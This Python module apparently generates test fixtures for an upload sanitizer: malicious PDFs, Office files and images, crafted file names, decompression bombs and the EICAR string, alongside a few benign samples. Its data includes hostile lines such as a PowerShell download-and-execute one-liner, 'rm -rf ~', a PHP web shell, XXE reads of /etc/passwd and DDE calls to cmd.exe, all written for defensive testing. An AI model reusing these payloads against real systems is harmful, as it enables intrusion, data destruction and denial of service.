"""Files that people and enemies send: built here, small, the same every time, with no foreign malware in them.

`hostile()` and `honest()` give Samples. Of a hostile one `poison` must not be found in what is kept, however it is packed;
`fate` says whether it is refused, made harmless, or may be either (a cut file that its reader can still mend).
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, replace

import docx
import openpyxl
import pikepdf
import xlsxwriter
from PIL import Image, ImageDraw, PngImagePlugin

REFUSED, HARMLESS, EITHER = "refused", "made harmless", "either"
MEGABYTE = 1024 * 1024
LIMIT = 20 * MEGABYTE
SCRIPT = b"<script>alert(document.cookie)</script>"
# in two halves, so that no scanner takes this file for the test virus that it builds
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/{part}" ContentType="{type}"/>{more}</Types>'
)
MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
}


@dataclass(frozen=True)
class Sample:
    label: str
    name: str
    content: bytes
    fate: str = REFUSED
    poison: bytes = b""


# ── building blocks ─────────────────────────────────────────────────────────────────────────────────────────────────


def pdf(change=lambda made: None, pages=1, **options) -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    for _each in range(pages):
        made.add_blank_page()
    change(made)
    made.save(out, deterministic_id="encryption" not in options, **options)
    return out.getvalue()


def picture(kind="PNG", size=(64, 48), mode="RGB", **options) -> bytes:
    made, out = Image.new(mode, size), io.BytesIO()
    if mode in ("RGB", "L", "RGBA", "CMYK"):
        made.paste(Image.linear_gradient("L").resize(size).convert(mode))
    made.save(out, kind, **options)
    return out.getvalue()


def archive(entries, compression=zipfile.ZIP_DEFLATED, comment=b"") -> bytes:
    """From {name: body} or [(name or ZipInfo, body)]."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as made:
        for name, body in entries.items() if isinstance(entries, dict) else entries:
            made.writestr(name, body)
        made.comment = comment
    return out.getvalue()


def parts(kind: str, types="", **more) -> dict:
    part, media = MAIN[kind]
    return {"[Content_Types].xml": TYPES.format(part=part, type=media, more=types), part: b"<d/>"} | more


def office(kind: str, more: dict | None = None, types="", compression=zipfile.ZIP_DEFLATED) -> bytes:
    return archive(parts(kind, types) | (more or {}), compression)


def links(*found: tuple[str, str, str]) -> str:
    """A part of relations from (type, target, mode)."""
    rows = "".join(
        f'<Relationship Id="r{place}" Type="{RELS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for place, (kind, target, mode) in enumerate(found)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{rows}</Relationships>'


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_of_size(width: int, height: int) -> bytes:
    """A head that promises much and a body that holds next to nothing."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def jpeg_of_size(width: int, height: int, progressive=False) -> bytes:
    body = bytearray(picture("JPEG", progressive=progressive))
    at = body.index(b"\xff\xc2" if progressive else b"\xff\xc0")
    body[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(body)


# ── hostile: what it is not ─────────────────────────────────────────────────────────────────────────────────────────

FOREIGN = {
    "program": b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
    "mach-o": b"\xcf\xfa\xed\xfe" + bytes(60),
    "shell": b"#!/bin/sh\nrm -rf ~\n",
    "powershell": b"IEX (New-Object Net.WebClient).DownloadString('http://a.example')",
    "batch": b"@echo off\r\ndel /q *.*\r\n",
    "script host": b"<?xml version='1.0'?><job><script language='JScript'>x()</script></job>",
    "html application": b"<hta:application id=x/><script>x()</script>",
    "html": b"<!DOCTYPE html><html><body onload=alert(1)>" + SCRIPT,
    "html behind a mark": b"\xef\xbb\xbf<html>" + SCRIPT,
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    "svg with a head": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "xml with an entity": b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "php": b"<?php system($_GET['c']); ?>",
    "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "rich text": rb"{\rtf1{\object\objemb\objdata 0105}}",
    "gif": b"GIF89a" + bytes(40),
    "gif and script": b"GIF89a/*" + SCRIPT,
    "bmp": b"BM" + bytes(60),
    "tiff": b"II*\x00" + bytes(60),
    "webp": b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(40),
    "heic": b"\x00\x00\x00\x18ftypheic" + bytes(40),
    "icon": b"\x00\x00\x01\x00\x01\x00" + bytes(40),
    "photoshop": b"8BPS\x00\x01" + bytes(40),
    "postscript": b"%!PS-Adobe-3.0\n(/etc/passwd) run\n",
    "rar": b"Rar!\x1a\x07\x00" + bytes(40),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(40),
    "gzip": b"\x1f\x8b\x08\x00" + bytes(40),
    "bzip": b"BZh91AY&SY" + bytes(40),
    "cabinet": b"MSCF" + bytes(60),
    "disk": bytes(0x8001) + b"CD001",
    "link": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
    "java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40),
    "wasm": b"\x00asm\x01\x00\x00\x00",
    "flash": b"FWS\x0a" + bytes(40),
    "sound": b"ID3\x03" + bytes(60),
    "film": b"\x00\x00\x00\x18ftypmp42" + bytes(40),
    "mail": b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n",
    "csv formula": b'=HYPERLINK("http://a.example";"tryk")\r\n',
    "text": b"just words",
    "text of two bytes": "just words".encode("utf-16"),
    "zeros": bytes(1000),
    "one byte": b"%",
    "blank before a pdf": b" " + b"%PDF-1.7\n",
    "html before a pdf": b"<html>" + SCRIPT + b"%PDF-1.7\n",
    "empty": b"",
}


def _foreign() -> Iterator[Sample]:
    endings = ("pdf", "docx", "png")
    for place, (label, body) in enumerate(FOREIGN.items()):
        for shift in (0, 1):
            ending = endings[(place + shift) % 3]
            yield Sample(f"{label} as {ending}", f"tilbud.{ending}", body)
    bundles = {
        "zip": {"a.txt": b"x"},
        "java archive": {"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": FOREIGN["java"]},
        "open document": {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<o/>"},
        "presentation": {"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": b"<p/>"},
        "book": {"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<c/>"},
        "no types": {"word/document.xml": b"<w/>"},
        "types alone": {"[Content_Types].xml": TYPES.format(part="a", type="b", more="")},
        "undeclared": {"[Content_Types].xml": "<Types/>", "word/document.xml": b"<w/>"},
        "both kinds": parts("docx") | {"xl/workbook.xml": b"<x/>"},
    }
    for label, entries in bundles.items():
        yield Sample(label, "budget.docx", archive(entries))
    yield Sample("test virus", "tilbud.pdf", EICAR, poison=EICAR)
    yield Sample("test virus in a zip", "tilbud.docx", archive({"eicar.com": EICAR}, zipfile.ZIP_STORED), poison=EICAR)
    yield Sample("one byte too much", "stor.pdf", b"%PDF-" + bytes(LIMIT - 4))


# ── hostile: names ──────────────────────────────────────────────────────────────────────────────────────────────────

NAMES = [
    "tilbud.pdf.exe", "tilbud.exe", "tilbud.html", "tilbud.svg", "tilbud.php.pdf", "tilbud.js", "tilbud", ".htaccess",
    ".pdf", "..", "../../etc/passwd", "..\\..\\windows\\system32\\a.pdf", "/etc/passwd", "C:\\a.pdf", "a/b/c.pdf",
    "%2e%2e%2fa.pdf", "n\x00ul.pdf", "tilbud.pdf\x00.exe", "linje\r\nSet-Cookie: a=b.pdf", "fane\t.pdf",
    "fdp\u202egpj.exe", "a\u2066b\u200e.pdf", "usynlig\u200b\u2060.pdf", "linjeskift\u2028.pdf", "\ufefftilbud.pdf",
    "x" * 255 + ".pdf", "æ" * 255 + ".pdf", "x.pdf" * 60, "tilbud." + "p" * 200, "tіlbud.pdf", "tilbud․pdf", "tilbud﹒exe",
    "<script>alert(1)</script>.pdf", "\"><img src=x onerror=alert(1)>.pdf", "a;b|c&d$(e)`f`.pdf", "-rf.pdf",
    "CON.pdf", "aux", "nul.tar.pdf", "LPT1", "a.pdf ", "a.pdf.", "a.pdf::$DATA", "{{ 7*7 }}.pdf", "%s%n.pdf",
    "'; DROP TABLE x;--.pdf", "💥" * 60 + ".pdf", "e\u0301" * 120 + ".pdf", "=cmd|' /C calc'!A0.pdf",
]  # fmt: skip


def _names() -> Iterator[Sample]:
    body = pdf()
    for place, name in enumerate(NAMES):
        yield Sample(f"name {place}", name, body, HARMLESS)


# ── hostile: pdf ────────────────────────────────────────────────────────────────────────────────────────────────────

D, N, A = pikepdf.Dictionary, pikepdf.Name, pikepdf.Array
ACTIONS = {
    "script": lambda: D(S=N("/JavaScript"), JS="app.alert(1)"),
    "launch": lambda: D(S=N("/Launch"), F="cmd.exe"),
    "send": lambda: D(S=N("/SubmitForm"), F="http://a.example"),
    "import": lambda: D(S=N("/ImportData"), F="a.fdf"),
    "embedded": lambda: D(S=N("/GoToE"), T=D(R=N("/C"))),
    "another file": lambda: D(S=N("/GoToR"), F="\\\\a.example\\b.pdf"),
    "rendition": lambda: D(S=N("/Rendition"), R=D(S=N("/MR"))),
    "rich media": lambda: D(S=N("/RichMediaExecute"), CMD=D(C="x")),
}


def _at_opening(made, action):
    made.Root.OpenAction = made.make_indirect(action)


def _at_page(made, action):
    made.pages[0].AA = D(O=action)


def _at_annotation(made, action):
    link = D(Type=N.Annot, Subtype=N.Link, Rect=A([0, 0, 9, 9]), A=action)
    made.pages[0].Annots = A([made.make_indirect(link)])


def _at_the_next(made, action):
    made.Root.OpenAction = D(S=N.GoTo, D=A([made.pages[0].obj, N.Fit]), Next=A([D(S=N.GoTo, Next=action)]))


def _at_field(made, action):
    field = D(FT=N.Tx, T="a", Type=N.Annot, Subtype=N.Widget, Rect=A([0, 0, 9, 9]), AA=D(K=action))
    made.Root.AcroForm = D(Fields=A([made.make_indirect(field)]))


PLACES = {
    "opening": _at_opening, "page": _at_page, "link": _at_annotation, "chain": _at_the_next, "field": _at_field,
}  # fmt: skip


def _embedded(made):
    made.attachments["x.exe"] = b"MZ"


def _name_tree(made):
    made.Root.Names = D(JavaScript=D(Names=A(["a", D(S=N.JavaScript, JS="x")])))


def _file_note(made):
    made.pages[0].Annots = A([made.make_indirect(D(Subtype=N.FileAttachment, Rect=A([0, 0, 9, 9])))])


def _old_form(made):
    made.Root.AcroForm = D(XFA=made.make_stream(b"<xdp/>"), Fields=A([]))


def _rich(made):
    made.pages[0].Annots = A([D(Subtype=N.RichMedia, Rect=A([0, 0, 9, 9]))])


def _code_in_a_stream(made):
    made.Root.OpenAction = D(S=N.JavaScript, JS=made.make_stream(b"app.alert(1)"))


def _name_elsewhere(made):
    made.Root.OpenAction = D(S=made.make_indirect(N.JavaScript), X=1)


def _three_dimensions(made):
    made.pages[0].Annots = A([D(Subtype=N("/3D"), Rect=A([0, 0, 9, 9]))])


SINGLE = {
    "file inside": _embedded, "name tree": _name_tree, "file in a note": _file_note, "old form": _old_form,
    "rich media note": _rich, "code in a stream": _code_in_a_stream, "name elsewhere": _name_elsewhere,
    "three dimensions": _three_dimensions,
}  # fmt: skip


def raw_pdf(*objects: bytes, tail=b"") -> bytes:
    """A PDF written by hand: object 1 is the root; with a right table of where each lies."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(out) + tail


ROOT, PAGES, PAGE = (
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
)


def bomb_of_objects(megabytes=256, packing=b"/FlateDecode", filler=b" ", packed=b"") -> bytes:
    """The page lies in a stream of objects that unpacks to so much; a table of the new kind points into it."""
    packer = zlib.compressobj(9)
    if not packed:
        packed = packer.compress(b"3 0 " + PAGE)
        packed += (
            b"".join(packer.compress(filler * (MEGABYTE // len(filler))) for _each in range(megabytes)) + packer.flush()
        )
    head = b"<</Type/Obj#53tm/N 1/#46irst 4/Filter%s/Length %d>>" % (packing, len(packed))
    stream = head + b"\nstream\n%s\nendstream" % packed
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in ((1, ROOT), (2, PAGES), (4, stream)):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    places[5] = len(out)
    rows = [(0, 0, 65535), (1, places[1], 0), (1, places[2], 0), (2, 4, 0), (1, places[4], 0), (1, places[5], 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    head = b"<</Type/XRef/Size 6/Root 1 0 R/W[1 4 2]/Length %d>>" % len(table)
    return bytes(out) + b"5 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, places[5])


def _pdfs() -> Iterator[Sample]:
    modes = {"plain": pikepdf.ObjectStreamMode.disable, "packed": pikepdf.ObjectStreamMode.generate}
    for mode_name, mode in modes.items():
        for action_name, action in ACTIONS.items():
            for place_name, place in PLACES.items():
                body = pdf(lambda made, place=place, action=action: place(made, action()), object_stream_mode=mode)
                yield Sample(f"pdf: {action_name} at {place_name}, {mode_name}", "tilbud.pdf", body)
        for label, change in SINGLE.items():
            yield Sample(f"pdf: {label}, {mode_name}", "tilbud.pdf", pdf(change, object_stream_mode=mode))
    plain, acting = pdf(), pdf(lambda made: _at_opening(made, ACTIONS["script"]()))
    yield Sample("pdf: name in disguise", "a.pdf", acting.replace(b"/JavaScript", b"/J#61v#61Script"), REFUSED)
    yield Sample("pdf: key in disguise", "a.pdf", raw_pdf(ROOT[:-2] + b"/OpenAction<</S/X/#4aS(x)>>>>", PAGES, PAGE))
    yield Sample("pdf: nobody points at the code", "a.pdf", raw_pdf(ROOT, PAGES, PAGE, b"<</S/JavaScript/JS(x)>>"))
    later = b"4 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\n"
    hidden = raw_pdf(ROOT, PAGES, PAGE, tail=later)
    yield Sample("pdf: code behind the end", "a.pdf", hidden, HARMLESS, b"JavaScript")
    yield Sample("pdf: script behind the end", "a.pdf", plain + SCRIPT, HARMLESS, SCRIPT)
    yield Sample("pdf: page of html behind the end", "a.pdf", plain + b"<html>" + SCRIPT + b"</html>", HARMLESS, SCRIPT)
    yield Sample("pdf: zip behind the end", "a.pdf", plain + archive({"a.class": FOREIGN["java"]}), HARMLESS, b"PK\x05\x06")
    inside = b"%PDF-1.7\n%" + SCRIPT + b"\n" + raw_pdf(ROOT, PAGES, PAGE)[9:]
    yield Sample("pdf: script between, table wrong", "a.pdf", inside, HARMLESS, SCRIPT)
    zipped = archive({"a.js": SCRIPT}, zipfile.ZIP_STORED)
    yield Sample("pdf: zip before the end", "a.pdf", plain.replace(b"startxref", zipped + b"\nstartxref"), HARMLESS, SCRIPT)
    yield Sample("pdf: program behind the end", "a.pdf", plain + FOREIGN["program"], HARMLESS, b"DOS mode")
    yield Sample("pdf: locked", "a.pdf", pdf(encryption=pikepdf.Encryption(user="x", owner="y")))
    yield Sample(
        "pdf: locked the old way",
        "a.pdf",
        pdf(encryption=pikepdf.Encryption(user="x", owner="y", R=3, aes=False, metadata=False)),
    )
    half = pdf(encryption=pikepdf.Encryption(owner="y"))
    yield Sample("pdf: locked against printing", "a.pdf", half, HARMLESS, b"/Encrypt")
    coded = pdf(lambda made: _at_opening(made, ACTIONS["script"]()), encryption=pikepdf.Encryption(owner="y"))
    yield Sample("pdf: code under a lock", "a.pdf", coded)
    yield Sample("pdf: no pages", "a.pdf", pdf(pages=0))
    yield Sample("pdf: head alone", "a.pdf", b"%PDF-1.7\n%%EOF")
    yield Sample("pdf: noise", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40)
    yield Sample("pdf: itself its own page", "a.pdf", raw_pdf(ROOT, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"), EITHER)
    yield Sample("pdf: a stream of objects explodes", "a.pdf", bomb_of_objects())
    yield Sample("pdf: a stream of nothing but words", "a.pdf", bomb_of_objects(4, filler=b"1 "))
    twice = zlib.compress(zlib.compress(b"3 0 " + PAGE + bytes(MEGABYTE)))
    yield Sample("pdf: packed twice", "a.pdf", bomb_of_objects(packing=b"[/FlateDecode/FlateDecode]", packed=twice))
    yield Sample("pdf: packed the old way", "a.pdf", bomb_of_objects(packing=b"/LZWDecode", packed=b"\x80\x0b\x60\x50"))
    yield Sample("pdf: packed as said elsewhere", "a.pdf", bomb_of_objects(1, packing=b" 9 0 R"))
    yield Sample("pdf: objects that do not unpack", "a.pdf", bomb_of_objects(packed=b"no zlib at all"), EITHER)
    yield Sample("pdf: deep", "a.pdf", raw_pdf(ROOT, PAGES, PAGE, b"[" * 20_000 + b"]" * 20_000), EITHER)
    yield Sample("pdf: a list of a million", "a.pdf", raw_pdf(ROOT, PAGES, PAGE, b"[" + b"1 " * 1_000_000 + b"]"))
    yield Sample("pdf: nothing but words", "a.pdf", raw_pdf(ROOT, PAGES, PAGE, *[b"[" + b"1 " * 100_000 + b"]"] * 26))
    for cut in (4, 3, 2):
        yield Sample(f"pdf: cut at a {cut}th", "a.pdf", plain[: len(plain) // cut], EITHER)
    yield Sample("pdf: cut a little", "a.pdf", plain[:-20], EITHER)


# ── hostile: office ─────────────────────────────────────────────────────────────────────────────────────────────────

OLE = FOREIGN["old office"]
MACRO_TYPES = [
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "application/vnd.ms-excel.addin.macroEnabled.main+xml",
    "application/vnd.ms-office.vbaProject", "application/vnd.ms-office.activeX+xml",
]  # fmt: skip
BAD_PARTS = {
    "macros": {"word/vbaProject.bin": b"x"},
    "macros of a sheet": {"xl/vbaProject.bin": b"x"},
    "macros renamed": {"word/media/image1.png": OLE},
    "macro data": {"word/vbaData.xml": b"<x/>"},
    "old macro sheet": {"xl/macrosheets/sheet1.xml": b"<x/>"},
    "control": {"word/activeX/activeX1.xml": b"<x/>"},
    "embedded object": {"word/embeddings/oleObject1.bin": b"x"},
    "embedded workbook": {"word/embeddings/Book.xlsx": b"x"},
    "object elsewhere": {"xl/oleObject7.bin": b"x"},
    "web extension": {"word/webextensions/webextension1.xml": b"<x/>"},
    "zip inside": {"word/media/a.png": archive({"a": b"x"})},
    "zip in a zip in a zip": {"word/a.xml": archive({"a": archive({"b": archive({"c": b"x"})})})},
    "program inside": {"word/media/a.jpeg": FOREIGN["program"]},
    "linux program inside": {"xl/media/a.bin": FOREIGN["elf"]},
    "shell inside": {"word/a.txt": FOREIGN["shell"]},
    "rar inside": {"word/media/a.png": FOREIGN["rar"]},
    "7z inside": {"word/media/a.png": FOREIGN["7z"]},
    "pdf inside": {"word/media/a.emf": pdf()},
    "script in a drawing": {"word/media/a.svg": b"<svg>" + SCRIPT + b"</svg>"},
    "field that runs": {"word/footer1.xml": b"<w><instrText> DDEAUTO c:\\\\cmd.exe</instrText></w>"},
    "sheet that runs": {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"},
    "way out": {"../../etc/cron.d/a": b"x"},
    "way out the other way": {"word/..\\..\\a.exe": b"x"},
    "way from the root": {"/etc/passwd": b"x"},
    "way to a drive": {"C:a.exe": b"x"},
}
FETCHING = [
    "attachedTemplate", "image", "oleObject", "externalLinkPath", "frame", "subDocument", "audio", "video",
    "mailMergeSource", "externalLink", "theme", "customXml",
]  # fmt: skip
PLACES_OF_LINKS = ["word/_rels/settings.xml.rels", "word/_rels/document.xml.rels", "xl/externalLinks/_rels/a.xml.rels"]
ENTITIES = {
    "file": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "net": "<!DOCTYPE x SYSTEM 'http://a.example/x.dtd'><x/>",
    "laughs": "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>",
}


def lying(say: int, real: int = 3_000_000) -> bytes:
    """An archive whose list of contents says another size of one part than it has."""
    body = bytearray(office("docx", {"word/big.xml": bytes(real)}))
    at = body.rindex(b"word/big.xml") - 46
    body[at + 24 : at + 28] = say.to_bytes(4, "little")
    return bytes(body)


def _linked(target="/etc/passwd") -> bytes:
    link = zipfile.ZipInfo("word/media/a.png")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return archive([*parts("docx").items(), (link, target)])


def _locked_part() -> bytes:
    body = bytearray(office("docx"))
    at = body.index(b"PK\x01\x02", body.index(b"PK\x01\x02") + 4)
    body[at + 8] |= 1
    return bytes(body)


def _many_same() -> bytes:
    """A thousand entries that are the same bytes of the archive: small, and large when unpacked."""
    body = office("docx", {"word/big.xml": bytes(900_000)})
    end = body.rindex(b"PK\x05\x06")
    start = int.from_bytes(body[end + 16 : end + 20], "little")
    listed = body[start:end]
    last = listed[listed.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"big", b"%03d" % place) for place in range(900))
    count = (3 + 900).to_bytes(2, "little")
    tail = body[end : end + 8] + count + count + (len(listed) + len(copies)).to_bytes(4, "little") + body[end + 16 :]
    return body[:start] + listed + copies + tail


def _offices() -> Iterator[Sample]:
    for kind in MAIN:
        for label, more in BAD_PARTS.items():
            yield Sample(f"{kind}: {label}", f"skema.{kind}", office(kind, more))
        for media in MACRO_TYPES:
            types = f'<Override PartName="/word/x.xml" ContentType="{media}"/>'
            yield Sample(f"{kind}: says {media}", f"skema.{kind}", office(kind, types=types))
        for label, words in ENTITIES.items():
            for coding in ("utf-8", "utf-16"):
                for part in (MAIN[kind][0], "docProps/core.xml", "[Content_Types].xml", "customXml/item1.XML"):
                    yield Sample(
                        f"{kind}: {label} in {part}, {coding}", f"a.{kind}", office(kind, {part: words.encode(coding)})
                    )
    for place, fetching in enumerate(FETCHING):
        part = PLACES_OF_LINKS[place % 3]
        yield Sample(
            f"fetches {fetching}", "a.docx", office("docx", {part: links((fetching, "http://a.example/", "External"))})
        )
        share = office("xlsx", {part: links((fetching, "file:////10/x", "External"))})
        yield Sample(f"fetches {fetching} from a share", "a.xlsx", share)
    masked = links(("attachedTemplate", "http://a.example/", "&#69;xternal"))
    yield Sample("fetches, in disguise", "a.docx", office("docx", {"word/_rels/a.xml.rels": masked}))
    wide = links(("attachedTemplate", "http://a.example/", "External")).replace('"1.0"', '"1.0" encoding="UTF-16"')
    yield Sample("fetches, in two bytes", "a.docx", office("docx", {"word/_rels/a.xml.rels": wide.encode("utf-16")}))
    for kind in ("aFChunk", "oleObject", "package", "connections", "control"):
        yield Sample(
            f"leads to {kind}", "a.docx", office("docx", {"word/_rels/a.xml.rels": links((kind, "a.htm", "Internal"))})
        )
    yield Sample("links that are no xml", "a.docx", office("docx", {"word/_rels/a.xml.rels": b"<a><b></a>"}))
    yield Sample(
        "links of five megabytes", "a.docx", office("docx", {"word/_rels/a.xml.rels": b"<a>" + bytes(5 * MEGABYTE)})
    )
    yield Sample("link instead of a part", "a.docx", _linked())
    yield Sample("link to a folder", "a.docx", _linked("../.."))
    yield Sample(
        "explodes a thousandfold", "a.docx", archive([*parts("docx").items(), ("word/a.xml", bytes(101 * MEGABYTE))])
    )
    yield Sample("explodes in many parts", "a.docx", office("docx", {f"word/{n}.xml": bytes(150_000) for n in range(700)}))
    yield Sample("many parts", "a.docx", office("docx", {f"word/{n}.xml": b"" for n in range(2001)}))
    yield Sample("the same part nine hundred times", "a.docx", _many_same())
    yield Sample("says less than it holds", "a.docx", lying(10))
    yield Sample("says more than it holds", "a.docx", lying(4_000_000))
    yield Sample("says four gigabytes", "a.docx", lying(0xFFFFFFF0))
    yield Sample("a part under a lock", "a.docx", _locked_part())
    yield Sample("the same name twice", "a.docx", archive([*parts("docx").items(), ("word/DOCUMENT.xml", b"<x/>")]))
    yield Sample("a note behind it", "a.docx", archive(parts("docx"), comment=SCRIPT))
    yield Sample("something before it", "a.docx", b"PK\x03\x04" + SCRIPT + office("docx"))
    yield Sample("two archives in one", "a.docx", archive({"a.js": SCRIPT}) + office("docx"))
    yield Sample("the test virus as a part", "a.docx", office("docx", {"word/a.com": b"PK\x03\x04" + EICAR}), poison=EICAR)
    stored = office("docx", {"word/document.xml": b"<w/>" * 50}, compression=zipfile.ZIP_STORED)
    yield Sample("one changed byte", "a.docx", stored.replace(b"<w/><w/>", b"<w/><v/>", 1))
    for cut in (4, 3, 2):
        yield Sample(f"docx: cut at a {cut}th", "a.docx", stored[: len(stored) // cut])
    yield Sample("docx: cut a little", "a.docx", stored[:-20])


# ── hostile: pictures ───────────────────────────────────────────────────────────────────────────────────────────────


def _hidden_in(kind: str, poison: bytes) -> Iterator[tuple[str, bytes]]:
    """A sound picture with something in each place that holds words."""
    plain = picture(kind)
    yield "behind the end", plain + poison
    exif = Image.Exif()
    exif[0x010E], exif[0x9286] = poison.decode("latin-1"), poison
    yield "in the camera's notes", picture(kind, exif=exif)
    yield "in the colour profile", picture(kind, icc_profile=poison * 3)
    if kind == "JPEG":
        yield "in a comment", picture(kind, comment=poison)
        yield "in another program's notes", plain[:2] + b"\xff\xed" + struct.pack(">H", len(poison) + 2) + poison + plain[2:]
    else:
        words = PngImagePlugin.PngInfo()
        words.add_text("Comment", poison.decode("latin-1"))
        words.add_itxt("XML:com.adobe.xmp", poison.decode("latin-1"), zip=True)
        yield "in words", picture(kind, pnginfo=words)
        yield "in a part of its own", plain[:33] + chunk(b"teSt", poison) + plain[33:]


def _pictures() -> Iterator[Sample]:
    payloads = {
        "script": SCRIPT,
        "php": FOREIGN["php"],
        "zip": archive({"a": SCRIPT}, zipfile.ZIP_STORED),
        "test virus": EICAR,
    }
    for kind, ending in (("PNG", "png"), ("JPEG", "jpg")):
        for label, poison in payloads.items():
            for where, body in _hidden_in(kind, poison):
                yield Sample(f"{ending}: {label} {where}", f"billede.{ending}", body, HARMLESS, poison)
        whole = picture(kind, (300, 300))
        for cut in (8, 4, 2):
            fate = REFUSED if kind == "PNG" else EITHER
            yield Sample(f"{ending}: cut at {cut}", f"billede.{ending}", whole[: len(whole) // cut], fate)
    for width, height in ((20_000, 20_000), (65_535, 65_535), (2**31 - 1, 1), (1, 2**31 - 1), (100_000, 201), (4473, 4473)):
        yield Sample(f"png: says {width} × {height}", "stort.png", png_of_size(width, height))
    for width, height in ((65_500, 65_500), (10_001, 10_000), (40_000, 40_000)):
        yield Sample(f"jpg: says {width} × {height}", "stort.jpg", jpeg_of_size(width, height))
    yield Sample("jpg: says much, pass by pass", "stort.jpg", jpeg_of_size(5000, 4001, progressive=True))
    yield Sample("png: no width", "tomt.png", png_of_size(0, 5))
    yield Sample("png: a wrong sum", "galt.png", picture()[:40] + b"\xff" + picture()[41:])
    yield Sample("png: head alone", "galt.png", b"\x89PNG\r\n\x1a\n")
    yield Sample("jpg: head alone", "galt.jpg", b"\xff\xd8\xff")
    yield Sample("jpg: marks without end", "galt.jpg", b"\xff\xd8" + b"\xff" * 5000)
    words = zlib.compress(bytes(30 * MEGABYTE), 9)
    bomb = picture()[:33] + chunk(b"zTXt", b"Comment\x00\x00" + words) + picture()[33:]
    yield Sample("png: words that explode", "galt.png", bomb, EITHER)
    yield Sample("png: a jpg's end", "galt.png", b"\x89PNG\r\n\x1a\n" + picture("JPEG"))


def hostile() -> list[Sample]:
    return [*_foreign(), *_names(), *_pdfs(), *_offices(), *_pictures()]


# ── honest ──────────────────────────────────────────────────────────────────────────────────────────────────────────

HONEST_NAMES = [
    "tilbud.pdf", "Tilbud fra tømrer.pdf", "Økonomi – 2026.pdf", "FAKTURA.PDF", "v1.2 endelig (3).pdf", "a" * 100 + ".pdf",
    "Børnehuset Solstrålen, plan & tegning.pdf", "tilbud «VVS».pdf", "50% mere.pdf", "2026-03-02.pdf",
]  # fmt: skip


def _honest_pdfs() -> Iterator[Sample]:  # noqa: C901  a list of small ones
    body = pdf()
    for name in HONEST_NAMES:
        yield Sample(f"name {name[:20]}", name, body)
    for pages in (2, 5, 20, 200):
        yield Sample(f"{pages} pages", "plan.pdf", pdf(pages=pages))
    for version in ("1.3", "1.4", "1.5", "1.6", "1.7", "2.0"):
        yield Sample(f"version {version}", "plan.pdf", pdf(force_version=version))
    for mode in (pikepdf.ObjectStreamMode.generate, pikepdf.ObjectStreamMode.disable):
        yield Sample(f"packed {mode}", "plan.pdf", pdf(pages=3, object_stream_mode=mode))
